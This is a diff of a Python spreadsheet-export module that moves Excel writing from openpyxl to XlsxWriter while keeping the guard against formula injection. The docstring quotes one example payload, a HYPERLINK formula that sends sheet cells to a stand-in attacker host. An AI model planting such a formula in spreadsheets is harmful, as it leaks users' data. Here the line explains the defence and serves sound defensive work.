@@ -5,19 +5,21 @@ cell that starts with =, +, -, @, a tab or a carriage return gets a leading apos
 text instead of running it (a page title such as =HYPERLINK("http://evil.example/?"&A1) would otherwise send the
 sheet's cells away). Numbers stay numbers: -3 or -0.5 cannot be a formula. In .xlsx files every text cell is
 stored as text, which Excel never evaluates, so the text stays as it was.
+
+Workbooks are written by XlsxWriter in its constant-memory mode: each row goes to disk as it comes, so memory stays
+flat at any row count, on half the CPU of openpyxl's write-only mode.
 """
 
 import csv
 import re
 from pathlib import Path
 
-from openpyxl import Workbook
-from openpyxl.cell import WriteOnlyCell
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+import xlsxwriter
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
 XLSX_TEXT_LIMIT = 32_767  # characters in one Excel cell
+XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # control characters an .xlsx cannot hold
 
 
 def safe_cell(value):
@@ -38,23 +40,20 @@ def write_csv(path: Path, header: list[str], rows) -> Path:
 
 
 def write_xlsx(path: Path, sheets: dict[str, tuple[list[str], object]]) -> Path:
-    """Writes an Excel workbook, one sheet per entry {sheet name: (header, rows)}, in openpyxl's write-only mode
-    (rows go to disk as they come, so memory stays flat at any row count); returns the path."""
+    "Writes an Excel workbook, one sheet per entry {sheet name: (header, rows)}, its header row frozen; returns the path."
     path.parent.mkdir(parents=True, exist_ok=True)
-    book = Workbook(write_only=True)
-    for name, (header, rows) in sheets.items():
-        sheet = book.create_sheet(name[:31])
-        sheet.freeze_panes = "A2"
-        sheet.append(header)
-        for row in rows: sheet.append([xlsx_cell(sheet, value) for value in row])
-    book.save(path)
+    # Text stays text: XlsxWriter would otherwise make text starting with = a formula, and some text URLs or numbers.
+    with xlsxwriter.Workbook(path, {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
+                                    "strings_to_numbers": False}) as book:
+        for name, (header, rows) in sheets.items():
+            sheet = book.add_worksheet(name[:31])
+            sheet.freeze_panes(1, 0)
+            sheet.write_row(0, 0, header)
+            for number, row in enumerate(rows, 1): sheet.write_row(number, 0, [xlsx_cell(value) for value in row])
     return path
 
 
-def xlsx_cell(sheet, value):
-    """Text as a text cell (openpyxl would make text starting with = a formula), without the control characters
-    .xlsx cannot hold; other values as they are."""
+def xlsx_cell(value):
+    "Text without the control characters .xlsx cannot hold, cut to what a cell holds; other values as they are."
     if not isinstance(value, str): return value
-    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value)[:XLSX_TEXT_LIMIT])
-    cell.data_type = "s"
-    return cell
+    return XLSX_ILLEGAL.sub("", value)[:XLSX_TEXT_LIMIT]
